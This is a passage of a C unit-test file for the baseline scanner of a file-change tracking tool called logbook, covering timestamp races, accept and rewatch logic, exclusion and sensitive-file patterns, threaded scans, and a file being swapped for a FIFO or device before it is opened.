	 * Write, take the baseline at once, rewrite the same number of bytes:
	 * when the file system gives the rewrite the same mtime and ctime
	 * (coarse timestamps), only the racy rule can see it.  Kernels with
	 * fine-grained timestamps never give equal stat data: then skip.
	 */
	for (int attempt = 0; attempt < 50 && !hit; attempt++) {
		struct stat a, b;
		unit_write(p, "aaaa", 4, 0);
		settle();
		unit_write(p, "bbbb", 4, 0);
		take();
		assert_int_equal(lstat(p, &a), 0);
		unit_write(p, "cccc", 4, 0);
		assert_int_equal(lstat(p, &b), 0);
		if (a.st_mtim.tv_sec != b.st_mtim.tv_sec || a.st_mtim.tv_nsec != b.st_mtim.tv_nsec ||
		    a.st_ctim.tv_sec != b.st_ctim.tv_sec || a.st_ctim.tv_nsec != b.st_ctim.tv_nsec)
			continue;
		hit = true;
		scan(&c);
		assert_int_equal(c.n, 1);
		assert_int_equal(c.v[0].what, CH_CONTENT);
		changes_free(&c);
	}
	free(p);
	if (!hit)
		skip();
}

static void a_touched_file_is_read_once_and_its_stat_data_refreshed(void **state)
{
	struct changes c;
	struct timespec ts[2] = { { 0, UTIME_NOW }, { 0, UTIME_NOW } };
	char *p = in_tree("touched"), *before, *after;

	(void)state;
	put("touched", "same\n", 0644);
	settle();
	take();
	before = index_text();
	assert_int_equal(utimensat(AT_FDCWD, p, ts, 0), 0);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.hashed, 1);
	changes_free(&c);
	after = index_text();
	assert_string_not_equal(before, after);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.hashed, 0);
	changes_free(&c);
	free(before);
	free(after);
	free(p);
}

static void a_file_over_64_mib_is_hashed_but_not_kept(void **state)
{
	struct changes c;
	struct buf b = BUF_INIT;
	char *p = in_tree("huge.img");
	int fd;

	(void)state;
	fd = open(p, O_WRONLY | O_CREAT, 0644);
	assert_true(fd >= 0);
	assert_int_equal(ftruncate(fd, BASELINE_STORE_MAX + 1), 0);
	close(fd);
	put("small", "s\n", 0644);
	settle();
	take();
	assert_int_equal(count_objects(), 1);
	fd = open(p, O_WRONLY | O_APPEND);
	assert_int_equal(write(fd, "x", 1), 1);
	close(fd);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.v[0].what, CH_CONTENT);
	assert_int_equal(baseline_old_content(j, &c.v[0], &b, NULL), -1);
	assert_non_null(strstr(errget(), "64 MiB"));
	assert_int_equal(baseline_new_content(&c.v[0], 1 << 20, &b), -1);
	changes_free(&c);
	buf_release(&b);
	free(p);
}

static void accept_moves_the_baseline_of_the_given_changes_only(void **state)
{
	struct changes c;
	const struct change *which[1];

	(void)state;
	put("a", "a1\n", 0644);
	put("b", "b1\n", 0644);
	settle();
	take();
	put("a", "a2\n", 0644);
	put("b", "b2\n", 0644);
	put("new", "n\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 3);
	which[0] = change_of(&c, "a");
	assert_int_equal(baseline_accept(j, which, 1), 0);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 2);
	assert_non_null(change_of(&c, "b"));
	assert_non_null(change_of(&c, "new"));
	which[0] = change_of(&c, "new");
	assert_int_equal(baseline_accept(j, which, 1), 0);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_non_null(change_of(&c, "b"));
	/* the old content of b is still the baseline's */
	{
		struct buf b = BUF_INIT;
		assert_int_equal(baseline_old_content(j, &c.v[0], &b, NULL), 0);
		assert_string_equal(buf_str(&b), "b1\n");
		buf_release(&b);
	}
	changes_free(&c);
}

static void accept_of_a_file_changed_again_keeps_what_the_scan_saw(void **state)
{
	struct changes c;
	char h[65];

	(void)state;
	put("f", "one\n", 0644);
	settle();
	take();
	put("f", "two\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	put("f", "three\n", 0644);
	assert_int_equal(baseline_accept(j, (const struct change *[]){ &c.v[0] }, 1), 0);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.v[0].what, CH_CONTENT);
	hash_of("two\n", h);
	assert_string_equal(c.v[0].old.hash, h);
	hash_of("three\n", h);
	assert_string_equal(c.v[0].new.hash, h);
	changes_free(&c);
	/* deleted and accepted: gone from the baseline */
	put("g", "g\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(baseline_accept(j, (const struct change *[]){ change_of(&c, "g") }, 1), 0);
	changes_free(&c);
	unlink_in("g");
	settle();
	scan(&c);
	assert_int_equal(change_of(&c, "g")->what, CH_DELETED);
	assert_int_equal(baseline_accept(j, (const struct change *[]){ change_of(&c, "g") }, 1), 0);
	changes_free(&c);
	scan(&c);
	assert_null(change_of(&c, "g"));
	changes_free(&c);
}

static void take_forgets_what_is_gone_and_reports_nothing_after(void **state)
{
	struct changes c;
	char *p;

	(void)state;
	put("a", "a\n", 0644);
	put("b", "b\n", 0644);
	settle();
	take();
	unlink_in("a");
	put("b", "b2\n", 0644);
	put("c", "c\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 3);
	changes_free(&c);
	take();
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	changes_free(&c);
	p = index_text();
	assert_null(strstr(p, "/a\n"));
	free(p);
}

static void rewatch_takes_what_is_newly_watched_and_leaves_pending_changes(void **state)
{
	struct watch_list before;
	struct changes c;
	char *other = pathf("%s/other", top), *body, *idx;
	size_t taken;

	(void)state;
	put("pending", "p1\n", 0644);
	put(".x.swp", "swap\n", 0644);
	settle();
	take();
	put("pending", "p2\n", 0644);
	assert_int_equal(mkdir(other, 0755), 0);
	{
		char *f = pathf("%s/o", other);
		unit_write(f, "o\n", 2, 0);
		free(f);
	}
	settle();
	/* a new path */
	before = w;
	memset(&w, 0, sizeof w);
	body = pathf("\tpath = %s\n\tpath = !*.swp\n\tpath = !%s/cache\n\tsensitive = *.key\n\tpath = %s\n", tree,
		     tree, other);
	configure(body);
	free(body);
	assert_int_equal(baseline_rewatch(j, &before, &w, NULL, &taken), 0);
	assert_int_equal(taken, 1);
	watch_free(&before);
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_non_null(change_of(&c, "pending"));
	changes_free(&c);
	/* an exclusion removed: what it hid is taken */
	before = w;
	memset(&w, 0, sizeof w);
	body = pathf("\tpath = %s\n\tpath = %s\n", tree, other);
	configure(body);
	free(body);
	assert_int_equal(baseline_rewatch(j, &before, &w, NULL, &taken), 0);
	assert_int_equal(taken, 1);
	watch_free(&before);
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_non_null(change_of(&c, "pending"));
	changes_free(&c);
	/* a path removed: its entries are dropped */
	before = w;
	memset(&w, 0, sizeof w);
	body = pathf("\tpath = %s\n", tree);
	configure(body);
	free(body);
	assert_int_equal(baseline_rewatch(j, &before, &w, NULL, &taken), 0);
	assert_int_equal(taken, 0);
	watch_free(&before);
	idx = index_text();
	assert_null(strstr(idx, "/other/o"));
	assert_non_null(strstr(idx, "/tree/.x.swp"));
	free(idx);
	free(other);
}

static void an_index_of_another_version_is_refused_not_rewritten(void **state)
{
	struct changes c;
	char *p, *text;

	(void)state;
	put("a", "a\n", 0644);
	settle();
	take();
	p = pathf("%s/.state/baseline/index", jdir);
	unit_write(p, "logbook-baseline-index 2 7\nfuture stuff\n", 40, 0);
	assert_int_equal(baseline_scan(j, &w, &c), -1);
	assert_non_null(strstr(errget(), "version 2"));
	assert_int_equal(baseline_take(j, &w, tree), -1);
	text = unit_read(p, NULL);
	assert_string_equal(text, "logbook-baseline-index 2 7\nfuture stuff\n");
	free(text);
	unit_write(p, "logbook-baseline-index 1 7\nf - 644 0 0 2\n", 41, 0);
	assert_int_equal(baseline_scan(j, &w, &c), -1);
	assert_non_null(strstr(errget(), "index:2: damaged"));
	/* found by fuzz-baseline: a NUL in a hash was read, then written back cut short */
	{
		static const char nul[] = "logbook-baseline-index 1 3\n"
			"f - 644 0 0 2 1 1 1 1 2 87428fc522803d31065e7bce3cf0\0\0\0e475096631e5e07bbd7a0fde60c4cf25c7 /etc/a\n";
		unit_write(p, nul, sizeof nul - 1, 0);
		assert_int_equal(baseline_scan(j, &w, &c), -1);
		assert_non_null(strstr(errget(), "NUL"));
	}
	free(p);
}

static void the_journal_itself_is_never_walked(void **state)
{
	struct changes c;
	char *body;

	(void)state;
	put("a", "a\n", 0644);
	body = pathf("\tpath = %s\n", top);
	configure(body);
	free(body);
	settle();
	assert_int_equal(baseline_take(j, &w, top), 0);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.files, 1);
	assert_true(said(&c.notes, "/journal: ", "the logbook journal itself"));
	changes_free(&c);
}

static void a_watched_path_through_a_symlink_is_not_followed(void **state)
{
	struct changes c;
	char *body;

	(void)state;
	mkdir_in("real", 0755);
	put("real/conf", "c\n", 0644);
	symlink_in("real", "link");
	body = pathf("\tpath = %s/link/conf\n", tree);
	configure(body);
	free(body);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.files, 0);
	assert_true(said(&c.notes, "/link/conf: ", "goes through the symlink"));
	changes_free(&c);
}


/* everything a scan says, as one text, to compare two scans */
static char *describe(const struct changes *c)
{
	struct buf b = BUF_INIT;

	for (size_t i = 0; i < c->n; i++)
		buf_addf(&b, "%s %u %s %s %lld\n", c->v[i].path, c->v[i].what, c->v[i].old.hash, c->v[i].new.hash,
			 (long long)c->v[i].first_seen);
	for (size_t i = 0; i < c->skipped.n; i++)
		buf_addf(&b, "skipped %s\n", c->skipped.msgs[i]);
	for (size_t i = 0; i < c->notes.n; i++)
		buf_addf(&b, "note %s\n", c->notes.msgs[i]);
	buf_addf(&b, "files %zu\n", c->files);
	return buf_detach(&b, NULL);
}

static void threads_find_exactly_what_one_thread_finds(void **state)
{
	struct changes c;
	char *one, *many, name[64];

	(void)state;
	for (int d = 0; d < 12; d++) {
		snprintf(name, sizeof name, "d%02d", d);
		mkdir_in(name, 0755);
		for (int s = 0; s < 3; s++) {
			snprintf(name, sizeof name, "d%02d/s%d", d, s);
			mkdir_in(name, d == 5 && s == 1 ? 0700 : 0755);
			for (int f = 0; f < 15; f++) {
				snprintf(name, sizeof name, "d%02d/s%d/f%02d", d, s, f);
				put(name, name, 0644);
			}
		}
	}
	{ char *f_ = in_tree("d03/fifo"); assert_int_equal(mkfifo(f_, 0644), 0); free(f_); }
	symlink_in("s0", "d04/link");
	settle();
	take();
	put("d00/s0/f00", "changed", 0644);
	unlink_in("d07/s2/f14");
	put("d09/s1/new", "new", 0644);
	chmod_in("d11/s0/f03", 0600);
	unlink_in("d04/link");
	symlink_in("s1", "d04/link");
	settle();
	baseline_threads = 1;
	scan(&c);
	one = describe(&c);
	assert_int_equal(c.n, 5);
	changes_free(&c);
	for (unsigned t = 2; t <= 8; t *= 2) {
		baseline_threads = t;
		scan(&c);
		many = describe(&c);
		assert_string_equal(one, many);
		free(many);
		changes_free(&c);
	}
	free(one);
}

/* every file of the tree, for the pattern test */
static char **tree_files;
static size_t ntree_files;
static int collect_file(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	(void)st;
	(void)ftw;
	if (type == FTW_F || type == FTW_SL) {
		tree_files = realloc(tree_files, (ntree_files + 1) * sizeof *tree_files);
		assert_non_null(tree_files);
		tree_files[ntree_files++] = strdup(path);
	}
	return 0;
}

static void the_walk_excludes_and_hides_exactly_what_watch_match_says(void **state)
{
	static const char *files[] = {
		"a.conf", "a.swp", ".b.swp", "abc", "axc", "ac", "x~", "*.lit", "plain.lit",
		"ld.so.cache", "sub/ld.so.cache", "sub/x.conf", "sub/secret", "sub/deep/secret",
		"other/secret", "other/keep", "cache/blob", "cached", "k1.key", "sub/k2.key",
		"brk/x1", "brk/y1", "dash-", "sub/dash-", "vault/a", "vault/sub/b", "q/a.conf",
	};
	char *body, *idx;
	size_t in_baseline = 0, hidden_files = 0;

	(void)state;
	mkdir_in("sub", 0755);
	mkdir_in("sub/deep", 0755);
	mkdir_in("other", 0755);
	mkdir_in("cache", 0755);
	mkdir_in("brk", 0755);
	mkdir_in("vault", 0755);
	mkdir_in("vault/sub", 0755);
	mkdir_in("q", 0755);
	for (size_t i = 0; i < sizeof files / sizeof *files; i++)
		put(files[i], files[i], 0644);
	body = pathf("\tpath = %s\n"
		     "\tpath = !*.swp\n"			/* suffix */
		     "\tpath = !a?c\n"			/* fnmatch on the name */
		     "\tpath = !*~\n"
		     "\tpath = \"!\\\\*.lit\"\n"		/* an escaped star: the literal name */
		     "\tpath = !%s/ld.so.cache\n"		/* full literal, one directory only */
		     "\tpath = !%s/*/secret\n"		/* full, wildcard in the directory part */
		     "\tpath = !%s/cache\n"			/* a whole directory */
		     "\tpath = !%s/br[k]/x*\n"		/* a bracket: matched on the whole path */
		     "\tpath = !%s/*-\n"
		     "\tpath = !%s/q/*.conf\n"
		     "\tsensitive = *.key\n"
		     "\tsensitive = %s/vault\n"		/* a directory: all below */
		     "\tsensitive = %s/sub/x.conf\n",
		     tree, tree, tree, tree, tree, tree, tree, tree, tree);
	configure(body);
	free(body);
	settle();
	take();
	idx = index_text();
	nftw(tree, collect_file, 16, FTW_PHYS);
	for (size_t i = 0; i < ntree_files; i++) {
		const char *path = tree_files[i];
		char *needle = pathf(" %s\n", path);
		char *at = strstr(idx, needle);
		bool watched = watch_watched(&w, path), hidden = watch_sensitive_name(&w, path);

		if (!!at != watched)
			fail_msg("%s: in the baseline %d, watched %d", path, !!at, watched);
		in_baseline += !!at;
		hidden_files += at && hidden;
		if (at) {
			/* the flags are the second field of the line */
			char *line = at;
			while (line > idx && line[-1] != '\n')
				line--;
			if ((line[2] == 's') != hidden)
				fail_msg("%s: sensitive in the baseline %d, by the patterns %d", path, line[2] == 's', hidden);
		}
		free(needle);
		free(tree_files[i]);
	}
	/* not a vacuous agreement: both exclude and hide some */
	assert_int_equal(ntree_files, sizeof files / sizeof *files);
	assert_int_equal(in_baseline, 14);
	assert_int_equal(hidden_files, 5);
	free(tree_files);
	tree_files = NULL;
	ntree_files = 0;
	free(idx);
	/* and the threads agree */
	{
		struct changes c;
		baseline_threads = 4;
		scan(&c);
		assert_int_equal(c.n, 0);
		changes_free(&c);
	}
}

static bool swap_device;
static void swap_for_special(const char *path, int when)
{
	if (when != BASELINE_HOOK_OPEN || !strstr(path, "/swapped"))
		return;
	assert_int_equal(unlink(path), 0);
	if (swap_device)
		assert_int_equal(mknod(path, S_IFCHR | 0644, makedev(1, 3)), 0);
	else
		assert_int_equal(mkfifo(path, 0644), 0);
}

static void a_file_swapped_for_a_fifo_or_device_before_the_open_is_not_opened(void **state)
{
	struct changes c;
	char seen[8192];
	int ino;

	(void)state;
	for (int round = 0; round < 2; round++) {
		swap_device = round == 1;
		if (swap_device && geteuid() != 0)
			break;
		put("swapped", "regular\n", 0644);
		settle();
		ino = opens_watch(tree);
		baseline_test_hook = swap_for_special;
		/* a FIFO opened for reading without O_NONBLOCK would hang here */
		scan(&c);
		baseline_test_hook = NULL;
		assert_true(said(&c.skipped, "/swapped: ", "changed type during the scan"));
		assert_null(change_of(&c, "swapped"));
		if (ino >= 0) {
			opened(ino, seen, sizeof seen);
			assert_null(strstr(seen, " swapped "));
			close(ino);
		}
		changes_free(&c);
		unlink_in("swapped");
	}
}

#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(a_no_change_scan_reads_no_file),
		T(a_changed_file_is_reported_with_its_old_and_new_content),
		T(chmod_is_a_mode_change_and_nothing_else),
		T(chown_is_an_owner_change),
		T(a_retargeted_symlink_is_a_target_change_and_is_never_followed),
		T(a_file_replaced_by_a_symlink_is_a_type_change),
		T(deleted_and_added_files_and_directories_are_reported_sorted_by_path),
		T(excluded_files_and_directories_are_not_tracked_nor_opened),
		T(sensitive_files_by_mode_and_by_pattern_never_reach_objects),
		T(a_pattern_made_sensitive_later_hides_the_old_content_too),
		T(a_file_in_a_directory_others_cannot_enter_is_sensitive),
		T(world_readable_contents_are_kept_once_per_content),
		T(a_lock_file_a_dead_writer_left_beside_an_object_does_not_stop_a_take),
		T(fifo_socket_and_device_are_skipped_with_a_message_and_never_opened),
		T(names_with_a_newline_or_invalid_utf8_are_tracked_exactly),
		T(a_symlink_loop_is_tracked_by_its_targets),
		T(a_watched_path_that_does_not_exist_yet_shows_up_as_added),
		T(a_file_that_vanishes_before_it_is_opened_is_gone_not_an_error),
		T(a_file_that_changes_while_read_is_read_again),
		T(a_file_that_keeps_changing_is_skipped_and_keeps_its_baseline),
		T(permission_denied_is_skipped_and_keeps_the_baseline),
		T(first_seen_is_kept_across_scans_and_reset_when_accepted),
		T(a_change_that_went_away_is_forgotten),
		T(a_file_stamped_in_the_future_is_racy_and_read_at_every_scan),
		T(a_rewrite_with_equal_stat_data_in_the_same_tick_is_still_seen),
		T(a_touched_file_is_read_once_and_its_stat_data_refreshed),
		T(a_file_over_64_mib_is_hashed_but_not_kept),
		T(accept_moves_the_baseline_of_the_given_changes_only),
		T(accept_of_a_file_changed_again_keeps_what_the_scan_saw),
		T(take_forgets_what_is_gone_and_reports_nothing_after),
		T(rewatch_takes_what_is_newly_watched_and_leaves_pending_changes),
		T(an_index_of_another_version_is_refused_not_rewritten),
		T(the_journal_itself_is_never_walked),
		T(a_watched_path_through_a_symlink_is_not_followed),
		T(threads_find_exactly_what_one_thread_finds),
		T(the_walk_excludes_and_hides_exactly_what_watch_match_says),
		T(a_file_swapped_for_a_fifo_or_device_before_the_open_is_not_opened),
	};
	return cmocka_run_group_tests_name("baseline", tests, NULL, NULL);
}
